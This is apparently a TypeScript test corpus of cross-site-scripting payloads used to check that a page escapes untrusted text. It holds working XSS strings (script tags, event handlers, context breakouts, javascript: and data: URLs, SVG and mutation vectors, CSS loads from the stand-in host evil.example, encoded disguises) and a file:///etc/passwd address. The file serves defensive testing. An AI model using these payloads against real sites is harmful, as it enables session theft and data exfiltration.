/**
 * Texts that run a script, fetch something or break out of their place where a page puts them in unescaped. Each calls `pwned`, or
 * asks `evil.example` for something: a test that hears of neither has rendered them as text.
 */
export const XSS_CORPUS: readonly string[] = [
  ...elements(),
  ...handlers(),
  ...breakouts(),
  ...addresses(),
  ...vectors(),
  ...mutations(),
  ...styles(),
  ...disguises(),
  ...templates(),
];

/** Elements that run or load something by being there. */
function elements(): string[] {
  return [
    '<script>pwned(1)</script>',
    '<SCRIPT>pwned(1)</SCRIPT>',
    '<script src=//evil.example/1.js></script>',
    '<script src="data:text/javascript,pwned(1)"></script>',
    '<script type=module>pwned(1)</script>',
    '<script>pwned(1)',
    '<script >pwned(1)</script >',
    '<script/x>pwned(1)</script>',
    '<script\n>pwned(1)</script>',
    '<scr<script>ipt>pwned(1)</scr</script>ipt>',
    '<<script>pwned(1)//<</script>',
    '<script>/*</script>*/pwned(1)//</script>',
    '</script><script>pwned(1)</script>',
    '<noscript><script>pwned(1)</script></noscript>',
    '<iframe src="javascript:parent.pwned(1)"></iframe>',
    '<iframe srcdoc="<script>parent.pwned(1)</script>"></iframe>',
    '<iframe src=//evil.example/2></iframe>',
    '<frameset onload=pwned(1)><frame src=//evil.example/3>',
    '<object data="javascript:pwned(1)"></object>',
    '<object data=//evil.example/4></object>',
    '<embed src="javascript:pwned(1)">',
    '<embed src=//evil.example/5>',
    '<applet code=//evil.example/6></applet>',
    '<base href=//evil.example/>',
    '<meta http-equiv=refresh content="0;url=javascript:pwned(1)">',
    '<meta http-equiv=refresh content="0;url=//evil.example/7">',
    '<link rel=stylesheet href=//evil.example/8.css>',
    '<link rel=preload as=script href=//evil.example/9.js>',
    '<link rel=import href=//evil.example/10>',
    '<portal src=//evil.example/11>',
    '<fencedframe src=//evil.example/12>',
    '<script type=importmap>{"imports":{"x":"//evil.example/13.js"}}</script>',
  ];
}

/** Elements that run something when an event comes, most of which come by themselves. */
function handlers(): string[] {
  return [
    '<img src=x onerror=pwned(1)>',
    '<IMG SRC=x OnErRoR=pwned(1)>',
    '<img/src=x/onerror=pwned(1)>',
    '<img src=x onerror="pwned(1)"',
    '<img src=x:x onerror=pwned`1`>',
    '<img src onerror=pwned(1)>',
    '<image src=x onerror=pwned(1)>',
    '<img srcset=x onerror=pwned(1)>',
    '<img src=//evil.example/14>',
    '<picture><source srcset=//evil.example/15><img></picture>',
    '<video src=x onerror=pwned(1)></video>',
    '<video><source onerror=pwned(1)></video>',
    '<video poster=//evil.example/16></video>',
    '<audio src=x onerror=pwned(1)></audio>',
    '<track onerror=pwned(1)>',
    '<body onload=pwned(1)>',
    '<body onpageshow=pwned(1)>',
    '<body background=//evil.example/17>',
    '<input autofocus onfocus=pwned(1)>',
    '<select autofocus onfocus=pwned(1)>',
    '<textarea autofocus onfocus=pwned(1)>',
    '<button autofocus onfocus=pwned(1)>x',
    '<a autofocus href=# onfocus=pwned(1)>x',
    '<div contenteditable autofocus onfocus=pwned(1)>x</div>',
    '<details open ontoggle=pwned(1)>',
    '<div popover id=p ontoggle=pwned(1)></div>',
    '<dialog open onclose=pwned(1)><form method=dialog><button>',
    '<marquee onstart=pwned(1)>x</marquee>',
    '<div onpointerover=pwned(1)>x</div>',
    '<div onmouseenter=pwned(1)>x</div>',
    '<div onanimationstart=pwned(1) style="animation:x 1s">',
    '<div ontransitionend=pwned(1) style="transition:1s">',
    '<div onscrollend=pwned(1) style="overflow:scroll">',
    '<div onbeforematch=pwned(1) hidden=until-found>x</div>',
    '<xss id=x tabindex=1 autofocus onfocus=pwned(1)></xss>',
    '<form><input type=submit formaction=javascript:pwned(1)></form>',
    '<form action=//evil.example/18><button>',
    '<isindex type=image src=x onerror=pwned(1)>',
    '<style onload=pwned(1)></style>',
    '<link rel=stylesheet href=data:, onload=pwned(1)>',
  ];
}

/** Ways out of an attribute, a comment, a title, a script's string. */
function breakouts(): string[] {
  return [
    '"><img src=x onerror=pwned(1)>',
    "'><img src=x onerror=pwned(1)>",
    '`><img src=x onerror=pwned(1)>',
    '" onmouseover="pwned(1)',
    "' onmouseover='pwned(1)",
    '" autofocus onfocus="pwned(1)" x="',
    "' autofocus onfocus='pwned(1)' x='",
    '" style="background:url(//evil.example/19)" x="',
    'x" src="x" onerror="pwned(1)',
    'x" href="javascript:pwned(1)',
    '--><img src=x onerror=pwned(1)><!--',
    '--!><img src=x onerror=pwned(1)>',
    '<!--><img src=x onerror=pwned(1)>-->',
    '</title><img src=x onerror=pwned(1)>',
    '</textarea><img src=x onerror=pwned(1)>',
    '</style><img src=x onerror=pwned(1)>',
    '</option></select><img src=x onerror=pwned(1)>',
    '</button><img src=x onerror=pwned(1)>',
    '</svg><img src=x onerror=pwned(1)>',
    ']]><img src=x onerror=pwned(1)>',
    '";pwned(1);//',
    "';pwned(1);//",
    '`;pwned(1);//',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: as it would end up in one.
    '${pwned(1)}',
    '\\";pwned(1);//',
    "\\';pwned(1);//",
    '\u2028pwned(1)//',
    '\u2029pwned(1)//',
    '</head><img src=x onerror=pwned(1)>',
    '{"x":"</script><script>pwned(1)</script>"}',
    '-pwned(1)-',
    "'-pwned(1)-'",
  ];
}

/** Addresses that run something where they become a link or a source. */
function addresses(): string[] {
  return [
    'javascript:pwned(1)',
    'JaVaScRiPt:pwned(1)',
    ' javascript:pwned(1)',
    '\tjavascript:pwned(1)',
    'java\tscript:pwned(1)',
    'java\nscript:pwned(1)',
    'javascript\t:pwned(1)',
    'javascript://%0apwned(1)',
    'javascript:/*https://bank.example*/pwned(1)',
    'javascript&colon;pwned(1)',
    '&#106;avascript:pwned(1)',
    '\u0001javascript:pwned(1)',
    'data:text/html,<script>pwned(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==',
    'data:image/svg+xml,<svg onload=pwned(1)>',
    'vbscript:pwned(1)',
    'view-source:javascript:pwned(1)',
    'feed:javascript:pwned(1)',
    'blob:https://evil.example/20',
    'file:///etc/passwd',
    '<a href=javascript:pwned(1)>x</a>',
    '<a href="java&#x09;script:pwned(1)">x</a>',
    '<area shape=rect coords=0,0,9,9 href=javascript:pwned(1)>',
    '//evil.example/21',
    'https://evil.example@bank.example/22',
  ];
}

function vectors(): string[] {
  return [
    '<svg onload=pwned(1)>',
    '<svg/onload=pwned(1)>',
    '<svg><script>pwned(1)</script></svg>',
    '<svg><script href=data:text/javascript,pwned(1) /></svg>',
    '<svg><script xlink:href=//evil.example/23.js></script></svg>',
    '<svg><animate onbegin=pwned(1) attributeName=x dur=1s>',
    '<svg><set onbegin=pwned(1) attributeName=x to=1>',
    '<svg><a><animate attributeName=href values=javascript:pwned(1) /><text y=9>x</text></a></svg>',
    '<svg><a xlink:href=javascript:pwned(1)><text y=9>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=pwned(1)>#x" /></svg>',
    '<svg><use href=//evil.example/24.svg#x /></svg>',
    '<svg><image href=//evil.example/25 /></svg>',
    '<svg><image href=x onerror=pwned(1) /></svg>',
    '<svg><foreignObject><iframe onload=pwned(1)></iframe></foreignObject></svg>',
    '<svg><foreignObject><body onload=pwned(1)></foreignObject></svg>',
    '<svg><style>@import "//evil.example/26.css"</style></svg>',
    '<svg><discard onbegin=pwned(1)>',
    '<svg><feImage href=//evil.example/27 /></svg>',
    '<math><mtext><script>pwned(1)</script></mtext></math>',
    '<math href=javascript:pwned(1)>x</math>',
    '<math><maction actiontype=statusline xlink:href=javascript:pwned(1)>x</maction></math>',
  ];
}

/** Markup that becomes something else when it is parsed a second time. */
function mutations(): string[] {
  return [
    '<template><img src=x onerror=pwned(1)></template>',
    '<template shadowrootmode=open><img src=x onerror=pwned(1)></template>',
    '<template><style></template><img src=x onerror=pwned(1)></style>',
    '<noscript><p title="</noscript><img src=x onerror=pwned(1)>">',
    '<svg></p><style><a id="</style><img src=x onerror=pwned(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=pwned(1)>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwned(1)>',
    '<select><template><img src=x onerror=pwned(1)></template></select>',
    '<table><td background=//evil.example/28>',
    '<p id="--><img src=x onerror=pwned(1)>',
    '<xmp><p title="</xmp><img src=x onerror=pwned(1)>">',
    '<listing>&lt;img src=x onerror=pwned(1)&gt;</listing>',
    '<plaintext><img src=x onerror=pwned(1)>',
    '<iframe><img title="</iframe><img src=x onerror=pwned(1)>">',
    '<option><style></option></select><img src=x onerror=pwned(1)></style>',
  ];
}

function styles(): string[] {
  return [
    '<style>*{background:url(//evil.example/29)}</style>',
    '<style>@import url(//evil.example/30.css);</style>',
    '<style>@font-face{font-family:x;src:url(//evil.example/31)}*{font-family:x}</style>',
    '<div style="background:url(//evil.example/32)">x</div>',
    '<div style="width:expression(pwned(1))">x</div>',
    '<div style="background:url(javascript:pwned(1))">x</div>',
    '<div style="behavior:url(//evil.example/33)">x</div>',
    '<div style="position:fixed;inset:0;z-index:9">x</div>',
    'red;background:url(//evil.example/34)',
    '#fff;}*{background:url(//evil.example/35)}',
    '}*{background:url(//evil.example/36)}',
    'expression(pwned(1))',
    'url(//evil.example/37)',
    '</style><style>*{background:url(//evil.example/38)}',
  ];
}

/** The same in writing that something along the way may undo. */
function disguises(): string[] {
  return [
    '&lt;img src=x onerror=pwned(1)&gt;',
    '&#60;img src=x onerror=pwned(1)&#62;',
    '&#x3c;img src=x onerror=pwned(1)&#x3e;',
    '&lt;script&gt;pwned(1)&lt;/script&gt;',
    '&amp;lt;img src=x onerror=pwned(1)&amp;gt;',
    '%3Cimg%20src%3Dx%20onerror%3Dpwned(1)%3E',
    '%253Cimg%2520src%253Dx%2520onerror%253Dpwned(1)%253E',
    '\\u003cimg src=x onerror=pwned(1)\\u003e',
    '\\x3cimg src=x onerror=pwned(1)\\x3e',
    '\uff1cimg src=x onerror=pwned(1)\uff1e',
    '\u2039img src=x onerror=pwned(1)\u203a',
    '\ufe64img src=x onerror=pwned(1)\ufe65',
    '\u02c2img src=x onerror=pwned(1)\u02c3',
    '+ADw-img src=x onerror=pwned(1)+AD4-',
    '\u202e<img src=x onerror=pwned(1)>',
    '<img src=x onerror=\u2066pwned(1)\u2069>',
    '\u200b<script>\u200bpwned(1)</script>',
    '<\u00adimg src=x onerror=pwned(1)>',
    '\ufeff<img src=x onerror=pwned(1)>',
    '<img src=x onerror=p\\u{77}ned(1)>',
    '<img src=x onerror=\\u0070wned(1)>',
    '<img src=x onerror=&#112;wned(1)>',
    '<img\u00a0src=x\u00a0onerror=pwned(1)>',
    '<img\u000csrc=x\u000conerror=pwned(1)>',
    '<\u0131mg src=x onerror=pwned(1)>',
    '<\u017fcript>pwned(1)</\u017fcript>',
    '<img src=x onerror=pwned(1)>\u0301\u0302\u0303',
  ];
}

/** For whatever fills in texts. */
function templates(): string[] {
  return [
    '{{constructor.constructor("pwned(1)")()}}',
    '{{pwned(1)}}',
    '{app}',
    '{count, plural, one {<img src=x onerror=pwned(1)>} other {#}}',
    '{institution} <b>{query}</b>',
    "'{'<img src=x onerror=pwned(1)>'}'",
    '#{pwned(1)}',
    '<%= pwned(1) %>',
    '[[pwned(1)]]',
    '__proto__',
    'constructor',
    '{"type":"img","props":{"src":"x","onerror":"pwned(1)"}}',
    '{"__html":"<img src=x onerror=pwned(1)>"}',
    '$& $1 $` <img src=x onerror=pwned(1)>',
  ];
}
